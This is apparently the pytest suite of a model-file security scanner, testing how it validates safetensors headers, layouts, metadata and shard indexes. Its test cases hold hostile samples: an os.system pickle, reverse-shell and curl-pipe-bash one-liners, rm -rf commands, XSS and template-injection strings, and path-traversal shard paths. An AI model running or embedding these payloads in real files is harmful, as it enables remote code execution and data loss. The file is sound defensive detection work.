"""The safetensors analyser: header and layout validation, the metadata classifier, and the shard index.

Benign files are written by the ``safetensors`` package itself; malformed and malicious ones are built by hand.
Pickles embedded in samples are bytes written here and never loaded.
"""

from __future__ import annotations

import base64
import json
import struct
import time
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.numpy import save, save_file

from bastion.config import Limits, Settings
from bastion.findings import Finding, Severity
from bastion.scan.check import CheckOutcome, Target
from bastion.supplychain import ModelFileCheck
from bastion.supplychain.formats import Blob
from bastion.supplychain.formats import safetensors as st_format
from bastion.supplychain.pickle import BufferSource

SAMPLES = Path("modelaudit-assets/samples/safetensors")
OS_SYSTEM_PICKLE = b"cos\nsystem\n(S'id'\ntR."
"""A protocol-0 pickle that would call os.system('id'); written as bytes and never loaded."""
OK_HEADER = {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
FUZZ = settings(max_examples=150, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


# ---- builders ----
def _raw(header: dict[str, object] | bytes, data: bytes = b"", pad: bytes = b" ") -> bytes:
    """A safetensors file: 8-byte length, header (JSON or raw bytes) padded to 8 bytes, data."""
    body = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        body += pad * (-len(body) % 8)
    return struct.pack("<Q", len(body)) + body + data


def _examine(path: Path, settings: Settings | None = None) -> CheckOutcome:
    check = ModelFileCheck(analyzers=(st_format.ANALYZER,))
    return check.examine(Target(str(path), path, path.stat().st_size), settings or Settings())


def _scan(tmp_path: Path, data: bytes, name: str = "model.safetensors") -> CheckOutcome:
    path = tmp_path / name
    path.write_bytes(data)
    return _examine(path)


def _rules(outcome: CheckOutcome, at_least: Severity = Severity.INFO) -> dict[str, Severity]:
    """Worst severity per rule among the findings at or above ``at_least``."""
    worst: dict[str, Severity] = {}
    for f in outcome.findings:
        if f.severity >= at_least:
            worst[f.rule_id] = max(f.severity, worst.get(f.rule_id, Severity.INFO))
    return worst


def _only(outcome: CheckOutcome, rule_id: str) -> list[Finding]:
    return [f for f in outcome.findings if f.rule_id == rule_id]


def _no_crash(outcome: CheckOutcome) -> None:
    assert not any("analyser failed" in why for why in outcome.incomplete), outcome.incomplete


# ---- benign files written by the safetensors package ----
def test_numpy_file_without_metadata_is_clean_and_described(tmp_path: Path) -> None:
    path = tmp_path / "plain.safetensors"
    save_file({"embed": np.zeros((10, 4), np.float32), "bias": np.ones(4, np.float32),
               "ids": np.arange(3, dtype=np.int64), "mask": np.array([True, False])}, str(path))
    outcome = _examine(path)
    assert outcome.kind == "safetensors"
    assert outcome.findings == [] and outcome.incomplete == []
    assert outcome.facts["format"] == "safetensors"
    assert outcome.facts["tensors"] == 4
    assert outcome.facts["parameters"] == 40 + 4 + 3 + 2
    assert outcome.facts["dtype"] == "F32"
    assert "safetensors.metadata_keys" not in outcome.facts


def test_every_numpy_dtype_the_library_writes_is_accepted(tmp_path: Path) -> None:
    tensors = {str(dt): np.ones((3, 5), dtype=dt) for dt in
               (np.float16, np.float32, np.float64, np.int8, np.int16, np.int32, np.int64, np.uint8, np.uint16,
                np.uint32, np.uint64, np.bool_, np.complex64)}
    tensors["scalar"] = np.array(1.5, np.float32)
    tensors["empty"] = np.zeros((0, 7), np.float32)
    outcome = _scan(tmp_path, save(tensors))
    assert outcome.findings == [] and outcome.incomplete == []
    assert outcome.facts["tensors"] == len(tensors)


def test_hf_style_metadata_records_framework_and_keys(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    save_file({"w": np.zeros((4, 4), np.float16)}, str(path), metadata={"format": "pt"})
    outcome = _examine(path)
    assert outcome.findings == []
    assert outcome.facts["framework"] == "pytorch"
    assert outcome.facts["safetensors.metadata_keys"] == ["format"]
    assert outcome.facts["dtype"] == "F16"


def test_empty_file_written_by_the_library(tmp_path: Path) -> None:
    outcome = _scan(tmp_path, save({}))
    assert outcome.kind == "safetensors" and outcome.findings == []
    assert outcome.facts["tensors"] == 0 and outcome.facts["parameters"] == 0


def _png_data_uri() -> str:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    return "data:image/png;base64," + base64.b64encode(png).decode()


BENIGN_METADATA = {
    "format": "pt",
    "total_size": "123456789",
    "mergekit_version": "0.0.5.1",
    "merge_config": json.dumps({"merge_method": "slerp", "base_model": "meta-llama/Llama-3.1-8B",
                                "slices": [{"sources": [{"model": "org/model-a", "layer_range": [0, 32]}]}],
                                "parameters": {"t": [0, 0.5, 1]}, "dtype": "bfloat16"}),
    "peft_config": json.dumps({"peft_type": "LORA", "r": 16, "lora_alpha": 32, "target_modules": ["q_proj"],
                               "base_model_name_or_path": "mistralai/Mistral-7B-v0.1", "task_type": "CAUSAL_LM"}),
    "ss_network_module": "networks.lora",
    "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)",
    "ss_tag_frequency": json.dumps({"img": {"1girl": 12, "solo": 9, "smile": 4}}),
    "ss_dataset_dirs": json.dumps({"img": {"n_repeats": 10, "img_count": 42}}),
    "ss_new_sd_model_hash": "a" * 64,
    "sshs_model_hash": "4f2d0c1b8e7a6f5d4c3b2a190817263544536271809a8b7c6d5e4f3a2b1c0d9e",
    "modelspec.thumbnail": _png_data_uri(),
    "modelspec.architecture": "stable-diffusion-v1/lora",
    "description": "Fine-tuned for classification. Call model.eval() and torch.compile(model) before inference; "
                   "load with `from transformers import AutoModel`. Paper: https://arxiv.org/abs/2106.09685",
    "homepage": "https://example.org/project/docs",
    "source": "https://huggingface.co/org/model/resolve/main/model.safetensors",
    "code": "https://github.com/org/repo/blob/main/train.py",
    "install": "curl -L https://huggingface.co/org/model/resolve/main/config.json -o config.json",
    "api_base": "http://127.0.0.1:8080/v1",
    "license": "https://www.apache.org/licenses/LICENSE-2.0",
    "training_comment": "lambda: 0.01, eval steps 500, compile mode default",
    "notes": "chmod 755 run.sh first; eval (held-out) accuracy 91%; grounding tokens <object> <image>; "
             "javascript: not required; see the README\nfrom the authors",
}


def test_real_world_benign_metadata_gives_nothing_at_medium_or_above(tmp_path: Path) -> None:
    path = tmp_path / "lora.safetensors"
    save_file({"lora_down": np.zeros((8, 16), np.float32)}, str(path), metadata=BENIGN_METADATA)
    outcome = _examine(path)
    assert _rules(outcome, Severity.MEDIUM) == {}, [f.title for f in outcome.findings]
    assert outcome.incomplete == []
    assert sorted(outcome.facts["safetensors.metadata_keys"]) == sorted(BENIGN_METADATA)  # type: ignore[arg-type]


def test_leading_whitespace_in_header_is_accepted_like_the_crate(tmp_path: Path) -> None:
    raw = _raw(b"   " + json.dumps(OK_HEADER).encode(), bytes(16))
    outcome = _scan(tmp_path, raw)
    assert outcome.kind == "safetensors" and outcome.findings == []


def test_packed_sub_byte_dtypes(tmp_path: Path) -> None:
    even = {"q": {"dtype": "F4", "shape": [4, 2], "data_offsets": [0, 4]},
            "s": {"dtype": "F8_E8M0", "shape": [2], "data_offsets": [4, 6]}}
    assert _scan(tmp_path, _raw(even, bytes(6))).findings == []
    odd = {"q": {"dtype": "F4", "shape": [3], "data_offsets": [0, 2]}}
    found = _only(_scan(tmp_path, _raw(odd, bytes(2))), "BST-ST-002")
    assert found and "byte boundary" in found[0].title


# ---- recognition ----
@pytest.mark.parametrize("data", [
    b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94.",
    b'{"weight_map": 1}',
    b"PK\x03\x04" + bytes(60),
    b"\x08\x00\x00\x00\x00\x00\x00\x00[1,2,3] ",
    b"\x02\x00\x00\x00\x00\x00\x00\x00{}",
    struct.pack("<Q", 200) + b"{}" + bytes(10),
    struct.pack("<Q", 14) + b'{"a": [1, 2]} ',
    b"\x93NUMPY" + bytes(40),
])
def test_sniff_rejects_other_content(data: bytes) -> None:
    blob = _blob(data)
    expected = data == b"\x02\x00\x00\x00\x00\x00\x00\x00{}"  # the smallest valid file: an empty header
    assert st_format.ANALYZER.sniff(blob) is expected


def test_sniff_accepts_header_that_is_broken_json_but_safetensors_shaped(tmp_path: Path) -> None:
    raw = _raw(b'{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]', bytes(16))
    outcome = _scan(tmp_path, raw)
    assert outcome.kind == "safetensors"
    assert _rules(outcome) == {"BST-ST-001": Severity.MEDIUM}
    assert outcome.incomplete


def test_header_that_is_not_utf8(tmp_path: Path) -> None:
    raw = _raw(b'{"w\xff":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}', bytes(16))
    outcome = _scan(tmp_path, raw)
    found = _only(outcome, "BST-ST-001")
    assert found and "not UTF-8" in found[0].title and found[0].location.offset == 8 + 3


# ---- header checks ----
def test_duplicate_keys_are_reported_high_when_they_differ(tmp_path: Path) -> None:
    two = b'{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    four = b'{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
    same = b'{"w":' + two + b',"w":' + two + b"}"
    assert _rules(_scan(tmp_path, _raw(same, bytes(8)))) == {"BST-ST-008": Severity.MEDIUM}
    differ = b'{"w":' + four + b',"w":' + two + b"}"
    rules = _rules(_scan(tmp_path, _raw(differ, bytes(16))))
    assert rules["BST-ST-008"] == Severity.HIGH
    meta = b'{"__metadata__":{"a":"1"},"__metadata__":{"a":"2"}}'
    assert _rules(_scan(tmp_path, _raw(meta)))["BST-ST-001"] == Severity.HIGH


@pytest.mark.parametrize(("pad", "severity"), [(b"\t", Severity.LOW), (b"\0", Severity.MEDIUM)])
def test_padding_that_is_not_spaces(tmp_path: Path, pad: bytes, severity: Severity) -> None:
    body = json.dumps(OK_HEADER).encode() + pad * 6
    assert _rules(_scan(tmp_path, _raw(body, bytes(16), pad=b"")))["BST-ST-007"] == severity


def test_hidden_pickle_in_header_padding_is_scanned(tmp_path: Path) -> None:
    body = json.dumps(OK_HEADER).encode() + OS_SYSTEM_PICKLE
    outcome = _scan(tmp_path, _raw(body, bytes(16), pad=b""))
    rules = _rules(outcome)
    assert rules["BST-ST-007"] == Severity.HIGH
    assert rules["BST-PKL-001"] == Severity.CRITICAL
    assert any(f.location.member == "header-padding" for f in _only(outcome, "BST-PKL-001"))


@pytest.mark.parametrize(("entry", "needle"), [
    ({"dtype": "F33", "shape": [2], "data_offsets": [0, 8]}, "unknown dtype"),
    ({"dtype": "f32", "shape": [2], "data_offsets": [0, 8]}, "unknown dtype"),
    ({"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}, "shape"),
    ({"dtype": "F32", "shape": [2.0], "data_offsets": [0, 8]}, "shape"),
    ({"dtype": "F32", "shape": [True], "data_offsets": [0, 8]}, "shape"),
    ({"dtype": "F32", "shape": "2", "data_offsets": [0, 8]}, "shape"),
    ({"dtype": "F32", "shape": [2], "data_offsets": [0, 8, 9]}, "data_offsets"),
    ({"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}, "begin after end"),
    ({"dtype": "F32", "shape": [2 ** 40, 2 ** 40], "data_offsets": [0, 8]}, "overflows"),
    ({"dtype": "F32", "data_offsets": [0, 8]}, "lacks shape"),
    (["F32", [2], [0, 8]], "not an object"),
])
def test_malformed_entries(tmp_path: Path, entry: object, needle: str) -> None:
    outcome = _scan(tmp_path, _raw({"t": entry, "ok": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}},
                                   bytes(8)))
    found = _only(outcome, "BST-ST-002")
    assert found and needle in found[0].title, [f.title for f in outcome.findings]
    assert found[0].severity == Severity.MEDIUM


def test_unknown_entry_fields_are_low_and_their_strings_classified(tmp_path: Path) -> None:
    header = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8], "note": "import os; os.system('id')"}}
    rules = _rules(_scan(tmp_path, _raw(header, bytes(8))))
    assert rules["BST-ST-002"] == Severity.LOW
    assert rules["BST-ST-010"] == Severity.HIGH


# ---- layout ----
def test_length_mismatch_is_medium_inside_the_file_and_high_past_it(tmp_path: Path) -> None:
    short = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]},
             "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}
    assert _rules(_scan(tmp_path, _raw(short, bytes(16)))) == {"BST-ST-003": Severity.MEDIUM}
    past = {"a": {"dtype": "F32", "shape": [100], "data_offsets": [0, 8]}}
    found = _only(_scan(tmp_path, _raw(past, bytes(8))), "BST-ST-003")
    assert found[0].severity == Severity.HIGH and "reads past the end" in found[0].detail


def test_tensor_beyond_the_end_of_the_file(tmp_path: Path) -> None:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    outcome = _scan(tmp_path, _raw(header, bytes(8)))
    assert _rules(outcome) == {"BST-ST-004": Severity.HIGH}
    assert outcome.findings[0].location.offset == 8 + len(_raw(header)) - 8


def test_overlapping_tensors(tmp_path: Path) -> None:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
              "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}
    found = _only(_scan(tmp_path, _raw(header, bytes(16))), "BST-ST-005")
    assert found and found[0].severity == Severity.HIGH and "'b' overlaps tensor 'a'" in found[0].title


def test_zero_filled_gap_is_medium(tmp_path: Path) -> None:
    header = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}
    found = _only(_scan(tmp_path, _raw(header, bytes(16))), "BST-ST-006")
    assert found and found[0].severity == Severity.MEDIUM and "zero bytes" in found[0].title


def test_pickle_hidden_after_the_last_tensor_is_scanned(tmp_path: Path) -> None:
    header = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    outcome = _scan(tmp_path, _raw(header, bytes(8) + OS_SYSTEM_PICKLE))
    rules = _rules(outcome)
    assert rules["BST-ST-006"] == Severity.HIGH
    assert rules["BST-PKL-001"] == Severity.CRITICAL
    hidden = _only(outcome, "BST-ST-006")[0]
    assert hidden.location.offset == len(_raw(header)) + 8 and "after the last tensor" in hidden.title


def test_findings_per_rule_are_capped_and_summarised(tmp_path: Path) -> None:
    header = {f"t{i}": {"dtype": "F99", "shape": [1], "data_offsets": [0, 4]} for i in range(60)}
    found = _only(_scan(tmp_path, _raw(header, bytes(4))), "BST-ST-002")
    assert len(found) == 21 and "40 more occurrences" in found[-1].title


# ---- metadata ----
def _with_metadata(tmp_path: Path, metadata: dict[str, object]) -> CheckOutcome:
    return _scan(tmp_path, _raw({"__metadata__": metadata, **OK_HEADER}, bytes(16)))


@pytest.mark.parametrize(("value", "rule_id", "severity"), [
    ("__import__('os').system('id')", "BST-ST-010", Severity.HIGH),
    ("import socket,pty\nsocket.socket()", "BST-ST-010", Severity.HIGH),
    ("pickle.loads(blob)", "BST-ST-010", Severity.HIGH),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "BST-ST-010", Severity.HIGH),
    ("curl -s https://raw.githubusercontent.com/x/y/main/install.sh | bash", "BST-ST-011", Severity.HIGH),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "BST-ST-011", Severity.HIGH),
    ("nc -e /bin/sh 203.0.113.9 4444", "BST-ST-011", Severity.HIGH),
    ("nc -lvnp 4444 -e /bin/bash", "BST-ST-011", Severity.HIGH),
    ("cd / && rm -Rf --no-preserve-root *", "BST-ST-011", Severity.HIGH),
    ("powershell -nop -w hidden -enc SQBFAFgA", "BST-ST-011", Severity.HIGH),
    ("wget http://203.0.113.7/x", "BST-ST-011", Severity.MEDIUM),
    ('<img src=x onerror="alert(1)">', "BST-ST-012", Severity.MEDIUM),
    ("javascript:alert(document.domain)", "BST-ST-012", Severity.MEDIUM),
    ("see http://45.33.32.156:8000/data", "BST-ST-013", Severity.MEDIUM),
    ("https://abcd-1-2-3-4.ngrok-free.app/hook", "BST-ST-013", Severity.MEDIUM),
    ("https://discord.com/api/webhooks/123/abc", "BST-ST-013", Severity.MEDIUM),
    ("https://cdn.example.net/tools/update.ps1", "BST-ST-013", Severity.MEDIUM),
])
def test_metadata_classifier(tmp_path: Path, value: str, rule_id: str, severity: Severity) -> None:
    outcome = _with_metadata(tmp_path, {"note": value})
    rules = _rules(outcome)
    assert rules.get(rule_id) == severity, [(f.rule_id, f.severity, f.title) for f in outcome.findings]


def test_metadata_url_under_a_callback_key(tmp_path: Path) -> None:
    outcome = _with_metadata(tmp_path, {"on_load_webhook": "https://collector.example.com/v1/ingest",
                                        "homepage": "https://collector.example.com/v1/ingest"})
    found = _only(outcome, "BST-ST-013")
    assert len(found) == 1 and "on_load_webhook" in found[0].title


def test_base64_pickle_in_metadata_is_handed_to_the_pickle_analyser(tmp_path: Path) -> None:
    outcome = _with_metadata(tmp_path, {"payload": base64.b64encode(OS_SYSTEM_PICKLE * 3).decode()})
    rules = _rules(outcome)
    assert rules["BST-ST-014"] == Severity.HIGH
    assert rules["BST-PKL-001"] == Severity.CRITICAL
    nested = _only(outcome, "BST-PKL-001")[0]
    assert nested.location.member == "__metadata__['payload']"


def test_base64_archive_in_metadata_is_medium_and_its_members_scanned(tmp_path: Path) -> None:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inner/data.pkl", OS_SYSTEM_PICKLE)
    outcome = _with_metadata(tmp_path, {"extra": base64.b64encode(buffer.getvalue()).decode()})
    rules = _rules(outcome)
    assert rules["BST-ST-014"] == Severity.MEDIUM and rules["BST-PKL-001"] == Severity.CRITICAL
    assert _only(outcome, "BST-PKL-001")[0].location.member == "__metadata__['extra']!inner/data.pkl"


def test_encoded_code_in_metadata_is_decoded_and_classified(tmp_path: Path) -> None:
    code = base64.b64encode(b"import subprocess; subprocess.run(['id'])").decode()
    shell = b"rm -rf /home/user --no-preserve-root".hex()
    outcome = _with_metadata(tmp_path, {"a": code, "b": shell})
    by_rule = {f.rule_id: f for f in outcome.findings}
    assert "base64-encoded" in by_rule["BST-ST-010"].title
    assert "hex-encoded" in by_rule["BST-ST-011"].title


def test_opaque_binary_blob_is_low_and_images_are_ignored(tmp_path: Path) -> None:
    noise = bytes((i * 7919 + 13) % 251 for i in range(4096))
    outcome = _with_metadata(tmp_path, {"blob": base64.b64encode(b"\x01\x02" + noise).decode(),
                                        "thumb": _png_data_uri()})
    assert _rules(outcome) == {"BST-ST-015": Severity.LOW}


def test_non_string_metadata(tmp_path: Path) -> None:
    outcome = _with_metadata(tmp_path, {"n": 3, "cfg": {"cmd": "rm -rf /"}})
    rules = _rules(outcome)
    assert rules["BST-ST-009"] == Severity.MEDIUM and rules["BST-ST-011"] == Severity.HIGH
    assert _rules(_scan(tmp_path, _raw({"__metadata__": ["x"], **OK_HEADER}, bytes(16)))) == {
        "BST-ST-009": Severity.MEDIUM}


def test_metadata_finding_points_at_its_key(tmp_path: Path) -> None:
    raw = _raw({"__metadata__": {"code": "exec(payload)"}, **OK_HEADER}, bytes(16))
    outcome = _scan(tmp_path, raw)
    offset = _only(outcome, "BST-ST-010")[0].location.offset
    assert offset is not None and raw[offset : offset + 6] == b'"code"'


# ---- the shared fixtures ----
MALICIOUS_SAMPLES = {
    "malicious_import": {"BST-ST-010"},
    "multiple_patterns": {"BST-ST-010", "BST-ST-011", "BST-ST-012", "BST-ST-013"},
    "obfuscated_metadata": {"BST-ST-010"},
    "script_injection": {"BST-ST-012"},
    "shell_commands": {"BST-ST-011", "BST-ST-013"},
    "suspicious_url": {"BST-ST-013"},
}


@pytest.mark.parametrize("name", sorted(MALICIOUS_SAMPLES))
def test_every_malicious_fixture_is_detected(shared_models: Path, name: str) -> None:
    outcome = _examine(shared_models / SAMPLES / f"{name}.safetensors")
    assert set(_rules(outcome, Severity.MEDIUM)) == MALICIOUS_SAMPLES[name]
    assert outcome.facts["parameters"] == 273664 and outcome.incomplete == []


def test_safe_fixture_is_clean(shared_models: Path) -> None:
    outcome = _examine(shared_models / SAMPLES / "safe_model.safetensors")
    assert outcome.kind == "safetensors" and outcome.findings == [] and outcome.incomplete == []
    assert outcome.facts["tensors"] == 3 and outcome.facts["dtype"] == "F32"


# ---- the shard index ----
def _index(weight_map: dict[str, str], metadata: dict[str, object] | None = None) -> bytes:
    return json.dumps({"metadata": metadata or {"total_size": 1234}, "weight_map": weight_map}, indent=2).encode()


def test_shard_index_is_recognised_and_described(tmp_path: Path) -> None:
    data = _index({"a.weight": "model-00001-of-00002.safetensors", "b.weight": "model-00002-of-00002.safetensors"})
    outcome = _scan(tmp_path, data, "model.safetensors.index.json")
    assert outcome.findings == []
    assert outcome.facts == {"format": "safetensors-index", "safetensors.shards": 2,
                             "safetensors.indexed_tensors": 2, "safetensors.total_size": 1234}


def test_shard_index_path_escape_and_metadata(tmp_path: Path) -> None:
    data = _index({"a.weight": "../../../home/user/.cache/other.safetensors", "b.weight": "/tmp/x.safetensors"},
                  {"total_size": 8, "note": "wget http://45.33.32.156/a.sh | sh"})
    outcome = _scan(tmp_path, data, "model.safetensors.index.json")
    assert _rules(outcome) == {"BST-ST-016": Severity.MEDIUM, "BST-ST-011": Severity.HIGH,
                               "BST-ST-013": Severity.MEDIUM}
    assert len(_only(outcome, "BST-ST-016")) == 2


def test_ordinary_json_is_not_an_index(tmp_path: Path) -> None:
    outcome = _scan(tmp_path, json.dumps({"metadata": {}, "weights": {"a": "b"}}).encode(), "config.json")
    assert outcome.kind is None


# ---- agreement with the reference loader ----
_WIDTHS = {"F32": 32, "F16": 16, "U8": 8, "I64": 64, "F4": 4, "BOOL": 8, "F6_E2M3": 6, "C64": 64, "F8_E8M0": 8}
_REFUSED_BY_CRATE = {"BST-ST-001", "BST-ST-003", "BST-ST-004", "BST-ST-005", "BST-ST-006", "BST-ST-009"}


@st.composite
def _layouts(draw: st.DrawFn) -> tuple[dict[str, object], int]:
    """Contiguous tensors, some nudged off by a byte, swapped or cut short; and a data length."""
    header: dict[str, object] = {}
    cursor = 0
    for index in range(draw(st.integers(0, 4))):
        dtype = draw(st.sampled_from(sorted(_WIDTHS)))
        shape = draw(st.lists(st.integers(0, 4), max_size=3))
        begin, end = cursor, cursor + -(-int(np.prod(shape, dtype=np.int64)) * _WIDTHS[dtype] // 8)
        nudge = draw(st.sampled_from(["", "", "", "end", "begin", "swap"]))
        if nudge == "end":
            end += draw(st.sampled_from([-1, 1]))
        elif nudge == "begin":
            begin += draw(st.sampled_from([-1, 1, 2]))
            end = max(begin, end)
        elif nudge == "swap":
            begin, end = end, begin
        header[f"t{index}"] = {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}
        cursor = max(cursor, begin, end)
    if draw(st.booleans()):
        header["__metadata__"] = {"k": draw(st.sampled_from(["v", 1]))}
    return header, max(0, cursor + draw(st.sampled_from([0, 0, 0, 1, -1])))


@FUZZ
@given(_layouts())
def test_layout_verdicts_agree_with_the_reference_loader(tmp_path: Path, layout: tuple[dict[str, object], int]) -> None:
    from safetensors import safe_open

    header, data_length = layout
    path = tmp_path / "layout.safetensors"
    path.write_bytes(_raw(header, bytes([7]) * data_length))
    try:
        with safe_open(str(path), "np"):  # our own sample, opened to learn the crate's verdict on it
            accepted = True
    except Exception:  # noqa: BLE001 - any refusal counts
        accepted = False
    outcome = _examine(path)
    refused = [f for f in outcome.findings
               if f.rule_id in _REFUSED_BY_CRATE or (f.rule_id == "BST-ST-002" and f.severity >= Severity.MEDIUM)]
    assert (not refused) == accepted, (header, data_length, [f.title for f in outcome.findings])


# ---- robustness ----
@dataclass
class _Recorder:
    """A Report that records everything, for driving ``analyse`` directly."""

    deadline: float = field(default_factory=lambda: time.monotonic() + 10)
    limits: Limits = field(default_factory=Limits)
    findings: list[tuple[str, str]] = field(default_factory=list)
    incomplete: list[str] = field(default_factory=list)
    facts: dict[str, object] = field(default_factory=dict)
    nested_members: list[str] = field(default_factory=list)

    def add(self, rule_id: str, title: str, detail: str, member: str | None, offset: int | None,
            evidence: str = "", severity: Severity | None = None) -> None:
        self.findings.append((rule_id, title))

    def not_examined(self, member: str | None, why: str) -> None:
        self.incomplete.append(why)

    def fact(self, key: str, value: object) -> None:
        self.facts.setdefault(key, value)

    def nested(self, data: bytes | memoryview, member: str) -> None:
        self.nested_members.append(member)


def _blob(data: bytes, name: str = "model.safetensors") -> Blob:
    return Blob(BufferSource(data), len(data), data[:512], None, name, None, lambda: memoryview(data))


def _drive(data: bytes) -> _Recorder:
    """Sniff and, when recognised, analyse ``data``; neither may raise."""
    report = _Recorder()
    blob = _blob(data)
    if st_format.ANALYZER.sniff(blob):
        st_format.ANALYZER.analyse(blob, report)
        assert report.facts.get("format") in ("safetensors", "safetensors-index")
    return report


def test_time_limit_is_honoured() -> None:
    header = {f"t{i}": {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i in range(10)}
    report = _Recorder(deadline=time.monotonic() - 1)
    blob = _blob(_raw(header, bytes(40)))
    assert st_format.ANALYZER.sniff(blob)
    st_format.ANALYZER.analyse(blob, report)
    assert any("time limit" in why for why in report.incomplete)


@FUZZ
@given(st.binary(max_size=600))
def test_fuzz_random_bytes(data: bytes) -> None:
    _drive(data)
    _drive(struct.pack("<Q", len(data)) + data)


_VALID = _raw({"__metadata__": {"format": "pt", "k": "v"}, "a": {"dtype": "F16", "shape": [2, 3],
                                                                 "data_offsets": [0, 12]},
               "b": {"dtype": "I64", "shape": [1], "data_offsets": [12, 20]}}, bytes(range(20)))


@FUZZ
@given(st.lists(st.tuples(st.integers(0, len(_VALID) - 1), st.integers(0, 255)), min_size=1, max_size=8),
       st.integers(8, len(_VALID)))
def test_fuzz_mutations_of_a_valid_file(edits: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(_VALID)
    for at, byte in edits:
        data[at] = byte
    _drive(bytes(data))
    _drive(bytes(data[:cut]))


_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2 ** 70), 2 ** 70) | st.floats(allow_nan=False) | st.text(max_size=20)
    | st.sampled_from(["F32", "F4", "BOOL", "__metadata__", "eval(x)", "http://198.51.100.1/a.sh"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(
        ["dtype", "shape", "data_offsets", "x", "__metadata__"]), inner, max_size=4),
    max_leaves=20,
)


@FUZZ
@given(st.dictionaries(st.text(max_size=8), _JSON_VALUES, max_size=5), st.binary(max_size=64))
def test_fuzz_structured_headers(header: dict[str, object], data: bytes) -> None:
    _drive(_raw(header, data))


def test_fuzz_end_to_end_never_crashes_the_check(tmp_path: Path) -> None:
    samples = [_VALID, _VALID[:30], _VALID[:-3], _raw(b"{" * 5000, b""), _raw(b'{"a":' * 3000 + b"1", b"")]
    for index, data in enumerate(samples):
        _no_crash(_scan(tmp_path, data, f"s{index}.safetensors"))
